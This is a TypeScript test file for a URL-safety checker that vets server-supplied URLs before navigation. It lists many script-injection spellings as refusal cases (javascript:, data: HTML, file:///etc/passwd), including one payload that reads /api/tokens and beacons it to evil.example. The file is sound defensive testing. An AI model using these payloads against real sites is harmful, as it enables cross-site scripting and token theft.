// The shared check every server-supplied URL passes before mcpscope navigates to it, fetches it or links to it.
// Attacks are written the many ways browsers accept them: the URL parser drops tabs and newlines anywhere and
// trims control characters and spaces at the ends, and schemes are case-insensitive.
import { describe, expect, it } from 'vitest';
import { checkServerUrl, safeServerHref, type HttpRule } from '@/lib/url-policy';

const SCRIPT_SPELLINGS = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'JaVaScRiPt:alert(document.domain)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u001fjavascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'javascript\n:alert(1)',
  'javascript:alert(1)\n',
  'javascript:fetch("/api/tokens").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))//?response_type=code',
  'javascript://%0aalert(1)',
  'javascript:/*https://ok.example/*/alert(1)',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://ok.example/4e3c8e0f-0000-4000-8000-000000000000',
  'blob:http://localhost:3000/4e3c8e0f-0000-4000-8000-000000000000',
  'file:///etc/passwd',
  'FILE://localhost/c:/windows/win.ini',
  'filesystem:https://ok.example/temporary/x',
  'ftp://ok.example/x',
  'ws://ok.example/socket',
  'wss://ok.example/socket',
  'mailto:someone@example.com',
  'about:blank',
  'chrome://settings',
  'view-source:https://ok.example/',
  'intent://scan/#Intent;scheme=zxing;end',
];

const RELATIVE_SPELLINGS = [
  '/authorize',
  '/api/tokens',
  '../x',
  'authorize?x=1',
  '?response_type=code',
  '#fragment',
  '//evil.example/authorize',
  '\\\\evil.example\\authorize',
  'evil.example/authorize',
  // Look-alikes of a scheme that the URL parser does not treat as one: relative references, refused too.
  'javascript&colon;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'javascript\uff1aalert(1)',
];

describe('checkServerUrl', () => {
  it.each(SCRIPT_SPELLINGS)('refuses %j', (value) => {
    const verdict = checkServerUrl(value, { what: 'The authorization_endpoint' });
    expect(verdict.ok).toBe(false);
    if (verdict.ok) return;
    expect(['scheme_forbidden', 'control_characters']).toContain(verdict.reason);
    expect(verdict.message).toMatch(/^The authorization_endpoint /);
    expect(safeServerHref(value)).toBeUndefined();
  });

  it('names the scheme the browser would read, however it is spelled', () => {
    for (const value of ['JAVASCRIPT:alert(1)', 'java\tscript:alert(1)', ' javascript:alert(1)', 'java\nscript:x']) {
      const verdict = checkServerUrl(value);
      expect(verdict.ok).toBe(false);
      if (!verdict.ok) expect(verdict.scheme).toBe('javascript:');
    }
    const data = checkServerUrl('data:text/html,<script>alert(1)</script>');
    expect(data).toMatchObject({ ok: false, reason: 'scheme_forbidden', scheme: 'data:' });
    if (!data.ok) expect(data.message).toContain('a data: URL, which carries a whole document');
  });

  it.each(RELATIVE_SPELLINGS)('refuses the relative or protocol-relative %j', (value) => {
    const verdict = checkServerUrl(value);
    expect(verdict.ok).toBe(false);
    if (!verdict.ok) expect(['not_absolute', 'unparsable']).toContain(verdict.reason);
  });

  it('refuses what is not a non-empty string', () => {
    for (const value of [undefined, null, 42, {}, ['https://ok.example/'], true, '']) {
      const verdict = checkServerUrl(value);
      expect(verdict.ok).toBe(false);
      if (!verdict.ok) expect(['not_a_string', 'empty']).toContain(verdict.reason);
    }
  });

  it('refuses unparsable absolute URLs', () => {
    expect(checkServerUrl('https://exa mple.com/')).toMatchObject({ ok: false, reason: 'unparsable' });
    expect(checkServerUrl('http://')).toMatchObject({ ok: false, reason: 'unparsable' });
    expect(checkServerUrl('https://[::1/')).toMatchObject({ ok: false, reason: 'unparsable' });
  });

  it('accepts https URLs and hands back the normalised href to use', () => {
    expect(checkServerUrl('https://auth.example/authorize?x=1')).toMatchObject({
      ok: true,
      href: 'https://auth.example/authorize?x=1',
      secure: true,
    });
    expect(safeServerHref('HTTPS://Auth.Example:443/a/../authorize')).toBe('https://auth.example/authorize');
    // Spaces inside are percent-encoded by the parser, never a way to hide a scheme.
    expect(safeServerHref('https://auth.example/a b')).toBe('https://auth.example/a%20b');
    // A special scheme without slashes still means https (the parser fixes it up): no way to smuggle another scheme.
    expect(safeServerHref('https:auth.example/x')).toBe('https://auth.example/x');
  });

  it('quotes a refused URL shortened and without its control characters', () => {
    const verdict = checkServerUrl(`java\nscript:${'a'.repeat(500)}`);
    expect(verdict.ok).toBe(false);
    if (verdict.ok) return;
    expect(verdict.message).not.toContain('\n');
    expect(verdict.message.length).toBeLessThan(400);
  });

  describe('plain http', () => {
    it('passes by default (the browser-side check keeps script out; the server applies the mode)', () => {
      expect(checkServerUrl('http://127.0.0.1:9000/authorize')).toMatchObject({ ok: true, secure: false });
    });

    it('is refused where the rule says so, with the rule’s reason', () => {
      expect(checkServerUrl('http://auth.example/authorize', { http: 'refuse' })).toMatchObject({
        ok: false,
        reason: 'http_forbidden',
        scheme: 'http:',
      });
      const onlyInternal: HttpRule = {
        allows: (url) => url.hostname.endsWith('.internal'),
        refusal: 'only .internal hosts may use http here',
      };
      expect(checkServerUrl('http://as.corp.internal/authorize', { http: onlyInternal })).toMatchObject({ ok: true });
      const refused = checkServerUrl('http://public.example/authorize', { http: onlyInternal, what: 'The token_endpoint' });
      expect(refused).toMatchObject({ ok: false, reason: 'http_forbidden' });
      if (!refused.ok)
        expect(refused.message).toBe(
          'The token_endpoint "http://public.example/authorize" is a plain http: URL: only .internal hosts may use http here.',
        );
      // https is never subject to the http rule.
      expect(checkServerUrl('https://public.example/authorize', { http: 'refuse' })).toMatchObject({ ok: true });
    });
  });
});

describe('schemeSuggestion (connect screen "Did you mean")', () => {
  it('suggests http:// in front of a host with a port or a path, nothing for a real URL or other text', async () => {
    const { schemeSuggestion } = await import('@/lib/url-policy');
    expect(schemeSuggestion('localhost:3000/mcp')).toBe('http://localhost:3000/mcp');
    expect(schemeSuggestion('127.0.0.1:9/mcp')).toBe('http://127.0.0.1:9/mcp');
    expect(schemeSuggestion('example.com/mcp')).toBe('http://example.com/mcp');
    expect(schemeSuggestion('https://example.com/mcp')).toBeUndefined();
    expect(schemeSuggestion('javascript:alert(1)')).toBeUndefined();
    expect(schemeSuggestion('not a url')).toBeUndefined();
  });
});
